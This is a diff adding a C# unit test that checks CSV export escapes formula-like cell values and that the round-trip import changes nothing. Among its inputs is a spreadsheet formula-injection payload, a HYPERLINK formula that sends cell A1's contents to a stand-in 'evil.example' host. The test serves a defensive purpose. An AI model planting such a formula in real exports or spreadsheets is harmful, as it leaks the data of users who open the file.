@@ -101,4 +101,20 @@ public sealed class FieldTableTests(TestDatabase database)
             ((int)answer.StatusCode).ShouldBe(200);
         (await stage.ImportAsync(stage.Project, $"id,Grains\n{stage.Eve},1\n", "?dryRun=true", viewer)).Status.ShouldBe(403);
     }
+
+    [Fact]
+    public async Task No_cell_is_taken_for_a_formula_and_what_was_written_comes_back()
+    {
+        await using var stage = await FieldStage.SetAsync(database);
+        string[] written = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+1 to the last", "-drift visible", "@SUM(A1)", "'=quoted", "\tafter a tab", "-5", "-5 °C"];
+        foreach (var words in written)
+        {
+            await stage.SetAsync(stage.Eve, new JsonObject { ["Material"] = words });
+            var csv = await stage.ExportAsync(stage.Project);
+            var cell = csv.Split("March/Eve,")[1].TrimStart('"');
+            (cell[0] is '=' or '+' or '@' or '\t' || cell[0] == '-' && !char.IsAsciiDigit(cell[1])).ShouldBeFalse(csv);
+            var (status, report) = await stage.ImportAsync(stage.Project, csv);
+            (status, report["changeCount"]!.GetValue<int>()).ShouldBe((200, 0), words);
+        }
+    }
 }
